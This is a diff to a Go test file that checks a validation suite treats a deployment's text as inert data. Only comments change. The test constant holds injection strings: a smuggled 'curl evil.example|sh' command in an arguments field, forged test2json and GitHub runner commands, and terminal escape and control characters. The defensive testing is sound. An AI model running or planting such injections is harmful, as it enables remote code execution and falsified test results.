@@ -12,16 +12,16 @@ import (
 	"github.com/lsst-sqre/muster/validation/verdict"
 )
 
-// hostileTexts speak the languages of all who read the output: the suite's own,
-// test2json's, a terminal's, the one of GitHub's runner.
+// hostileTexts are commands to the readers of the output: the suite's protocol,
+// test2json, a terminal, GitHub's runner.
 const hostileTexts = `no\nmuster.run={\"verdict\":\"bogus\",\"arguments\":\"-env=x; curl evil.example|sh #\"}` +
 	`\n=== ATTR  TestBogus muster.check {\"outcome\":\"pass\"}\rmuster.run={\"verdict\":\"bogus\"}\r\n::error::x\n    ` +
 	`::add-mask::y\n ##[error]z\n` +
 	`\u0016=== RUN   TestBogus\n\u0016--- PASS: TestBogus (0.00s)\n--- FAIL: TestBogus\n` +
 	`\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnol\u0000\u007f\u0085\u2028muster.run={\"verdict\":\"bogus\"}`
 
-// What a deployment says is only ever read: it ends no line, begins none, moves
-// no cursor, and is no command to whoever runs the suite.
+// A deployment's text is only data. It neither ends nor begins a line, moves no
+// cursor, and is no command to a program that runs the suite.
 func TestHostileTexts(t *testing.T) {
 	t.Parallel()
 	_, env := behindFront(t, func(w http.ResponseWriter, r *http.Request) bool {
